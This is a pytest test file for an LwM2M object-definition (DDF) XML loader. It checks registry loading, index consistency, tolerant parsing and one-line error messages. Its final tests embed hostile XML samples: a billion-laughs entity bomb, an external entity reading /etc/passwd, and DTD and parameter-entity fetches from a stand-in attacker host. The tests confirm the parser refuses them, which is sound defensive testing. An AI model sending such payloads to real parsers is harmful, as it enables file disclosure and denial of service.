"""The DDF loader: every registry file, the registry's quirks, error messages, hostile XML."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from meterproof.errors import ModelError
from meterproof.lwm2m.model import ddf
from meterproof.lwm2m.model.types import DataType, Operations

NOT_OBJECT_FILES = {"DDF.xml", "LWM2M_senml_units.xml"}  # registry index and SenML unit list


def _index_rows(registry_dir: Path) -> list[dict[str, str]]:
    """Rows of INDEX.md's object tables: file, obj, ver, res, mand."""
    rows = []
    for line in (registry_dir / "INDEX.md").read_text(encoding="utf-8").splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) >= 7 and cells[0].endswith(".xml"):
            rows.append({"file": cells[0], "obj": cells[1], "ver": cells[2].split()[0],
                         "res": cells[5], "mand": cells[6]})
    return rows


def test_every_registry_file_loads_or_is_refused_as_not_a_ddf(registry_dir: Path) -> None:
    files = sorted(registry_dir.glob("*.xml"))
    assert len(files) > 60
    for f in files:
        if f.name in NOT_OBJECT_FILES:
            with pytest.raises(ModelError, match=r"not a DDF file: root element is <\w+>"):
                ddf.load_file(f)
        elif f.name == "Common.xml":
            assert ddf.load_file(f) == []  # reusable resources, no object
        else:
            defs = ddf.load_file(f)
            assert len(defs) == 1, f.name
            assert defs[0].resources, f.name


def test_registry_folder_matches_index(registry_dir: Path) -> None:
    rows = _index_rows(registry_dir)
    assert len(rows) == 67
    by_file = {p.name: defs for p, defs in ddf.iter_dir(registry_dir)}
    for row in rows:
        (d,) = by_file[row["file"]]
        assert (d.id, d.version) == (int(row["obj"]), row["ver"]), row
        assert len(d.resources) == int(row["res"]), row
        assert len(d.mandatory_resources) == int(row["mand"]), row
        assert d.source.endswith(row["file"])


def test_spot_facts(registry_dir: Path) -> None:
    (device,) = ddf.load_file(registry_dir / "3.xml")
    r7 = device.resource(7)
    assert (r7.multiple, r7.type, r7.operations) == (True, DataType.INTEGER, Operations.R)
    assert device.version == "1.2" and device.lwm2m_version == "1.1" and not device.multiple

    (server,) = ddf.load_file(registry_dir / "1.xml")
    r8 = server.resource(8)
    assert r8.operations == Operations.E and r8.mandatory and r8.type is DataType.NONE

    (security,) = ddf.load_file(registry_dir / "0.xml")
    assert security.resource(5).operations == Operations.NONE
    assert security.resource(13).type is DataType.UNSIGNED_INTEGER


def test_missing_versions_mean_1_0(registry_dir: Path) -> None:
    for name in ("0-1_0.xml", "1-1_0.xml", "3-1_0.xml"):
        text = (registry_dir / name).read_text(encoding="utf-8-sig")
        assert "<ObjectVersion>" not in text and "<LWM2MVersion>" not in text
        (d,) = ddf.load_file(registry_dir / name)
        assert (d.version, d.lwm2m_version) == ("1.0", "1.0")


def test_element_order_does_not_matter(registry_dir: Path) -> None:
    (meter,) = ddf.load_file(registry_dir / "3421.xml")  # item 58 has <Type> before <Operations>
    r58 = meter.resource(58)
    assert (r58.type, r58.operations, r58.mandatory) == (DataType.BOOLEAN, Operations.R, False)
    for name, ids in (("3418.xml", range(31, 36)), ("3422.xml", (36, 37, 38, 41, 42))):
        (d,) = ddf.load_file(registry_dir / name)
        assert all(d.resource(i).operations != Operations.NONE for i in ids), name


SHUFFLED = b"""\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>
<!-- two objects, children in any order, a default namespace, lower-case spellings -->
<LWM2M xmlns="urn:example:ddf" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
       xsi:noNamespaceSchemaLocation="LWM2M.xsd">
  <Object ObjectType="MODefinition">
    <Resources>
      <Item ID="1"><Type>Unsigned Integer</Type><Mandatory>mandatory</Mandatory>
        <Description>first</Description><Name>A</Name><MultipleInstances>single</MultipleInstances>
        <Units>s</Units><Operations>RW</Operations><RangeEnumeration>0..9</RangeEnumeration></Item>
      <Item ID="0"><Operations>E</Operations><Name>Go</Name><Type></Type>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory></Item>
    </Resources>
    <Mandatory>Optional</Mandatory><MultipleInstances>Multiple</MultipleInstances>
    <ObjectVersion>1.3</ObjectVersion><ObjectID>32769</ObjectID><Name>Vendor</Name>
    <Description1>one</Description1><Description2>two</Description2>
  </Object>
  <Object><ObjectID>32770</ObjectID><Name>Other</Name><MultipleInstances>Single</MultipleInstances>
    <Mandatory>Optional</Mandatory><Resources/></Object>
</LWM2M>"""


def test_shuffled_namespaced_multi_object_document() -> None:
    first, second = ddf.load(SHUFFLED)
    assert (first.id, first.version, first.lwm2m_version, first.name) == (32769, "1.3", "1.0", "Vendor")
    assert first.description == "one\n\ntwo"
    assert list(first.resources) == [0, 1]  # sorted by id
    a = first.resource(1)
    assert (a.type, a.operations, a.mandatory, a.multiple) == (DataType.UNSIGNED_INTEGER, Operations.RW, True, False)
    assert (a.range_enumeration, a.units, a.description) == ("0..9", "s", "first")
    assert first.resource(0).type is DataType.NONE
    assert (second.id, second.multiple, second.resources) == (32770, False, {})


def test_load_accepts_file_bytes_and_folder(tmp_path: Path) -> None:
    f = tmp_path / "v.xml"
    f.write_bytes(SHUFFLED)
    (tmp_path / "index.xml").write_text("<DDFList/>")  # not a DDF: skipped in a folder
    assert [d.id for d in ddf.load(f)] == [32769, 32770]
    assert [d.id for d in ddf.load(str(tmp_path))] == [32769, 32770]
    assert ddf.load(f)[0].source == str(f)


def _doc(item: str = "", obj: str = "") -> bytes:
    item = item or ("<Name>X</Name><Operations>R</Operations><MultipleInstances>Single</MultipleInstances>"
                    "<Mandatory>Optional</Mandatory><Type>Integer</Type>")
    obj = obj or ("<Name>O</Name><ObjectID>3</ObjectID><MultipleInstances>Single</MultipleInstances>"
                  "<Mandatory>Mandatory</Mandatory>")
    return f'<LWM2M><Object ObjectType="MODefinition">{obj}<Resources><Item ID="7">{item}</Item>' \
           f"</Resources></Object></LWM2M>".encode()


@pytest.mark.parametrize("item, obj, message", [
    ("<Name>X</Name><Operations>R</Operations><MultipleInstances>Single</MultipleInstances>"
     "<Mandatory>Optional</Mandatory><Type>Int</Type>", "", "objects/3.xml: Object 3 Item 7: unknown Type 'Int'"),
    ("<Name>X</Name><Operations>RX</Operations><MultipleInstances>Single</MultipleInstances>"
     "<Mandatory>Optional</Mandatory><Type>Integer</Type>", "", "Item 7: unknown Operations 'RX'"),
    ("<Name>X</Name><Operations>R</Operations><MultipleInstances>Many</MultipleInstances>"
     "<Mandatory>Optional</Mandatory><Type>Integer</Type>", "",
     "Item 7: <MultipleInstances> must be 'Multiple' or 'Single', got 'Many'"),
    ("<Name>X</Name><Operations>R</Operations><MultipleInstances>Single</MultipleInstances>"
     "<Type>Integer</Type>", "", "Item 7: missing <Mandatory>"),
    ("<Name>X</Name><Operations>R</Operations><MultipleInstances>Single</MultipleInstances>"
     "<Mandatory>Optional</Mandatory>", "", "Item 7: missing <Type>"),
    ("", "<Name>O</Name><MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>",
     "Object: missing <ObjectID>"),
    ("", "<Name>O</Name><ObjectID>70000</ObjectID><MultipleInstances>Single</MultipleInstances>"
         "<Mandatory>Optional</Mandatory>", "must be an integer 0..65535, got '70000'"),
    ("", "<Name>O</Name><ObjectID>3</ObjectID><ObjectVersion>v2</ObjectVersion>"
         "<MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>",
     "Object 3: <ObjectVersion> must look like '1.0', got 'v2'"),
])
def test_errors_are_one_line_and_name_the_place(item: str, obj: str, message: str) -> None:
    with pytest.raises(ModelError) as exc:
        ddf.parse_ddf(_doc(item, obj), "objects/3.xml")
    text = str(exc.value)
    assert message in text and "\n" not in text and text.startswith("objects/3.xml: ")


def test_duplicate_item_and_broken_xml() -> None:
    twice = _doc().replace(b"</Resources>", _doc().split(b"<Resources>")[1].split(b"</Resources>")[0]
                           + b"</Resources>")
    with pytest.raises(ModelError, match="Object 3 Item 7: defined twice"):
        ddf.parse_ddf(twice, "x.xml")
    with pytest.raises(ModelError, match=r"^x.xml: not well-formed XML"):
        ddf.parse_ddf(b"<LWM2M><Object>", "x.xml")
    with pytest.raises(ModelError, match="cannot read"):
        ddf.load_file("/nonexistent/dir/3.xml")
    with pytest.raises(ModelError, match="not a folder"):
        ddf.load_dir("/nonexistent/dir")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<LWM2M><Object><Name>&lol9;</Name></Object></LWM2M>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<LWM2M><Object><Name>&xxe;</Name><ObjectID>3</ObjectID></Object></LWM2M>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M SYSTEM "http://attacker.invalid/evil.dtd">
<LWM2M/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<LWM2M/>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"])
def test_hostile_xml_is_refused_quickly(doc: bytes) -> None:
    start = time.perf_counter()
    with pytest.raises(ModelError, match=r"^evil.xml: refused unsafe XML \(\w+\)$"):
        ddf.parse_ddf(doc, "evil.xml")
    assert time.perf_counter() - start < 0.5


def test_oversized_document_is_refused() -> None:
    big = b"<LWM2M>" + b" " * (ddf.MAX_DDF_BYTES + 1) + b"</LWM2M>"
    with pytest.raises(ModelError, match="larger than a DDF may be"):
        ddf.parse_ddf(big, "big.xml")


def test_error_message_names_source_file(tmp_path: Path) -> None:
    f = tmp_path / "3.xml"
    f.write_bytes(_doc("<Name>X</Name><Operations>R</Operations><MultipleInstances>Single</MultipleInstances>"
                       "<Mandatory>Optional</Mandatory><Type>Int</Type>"))
    with pytest.raises(ModelError, match=re.escape(f"{f}: Object 3 Item 7: unknown Type 'Int'")):
        ddf.load_dir(tmp_path)
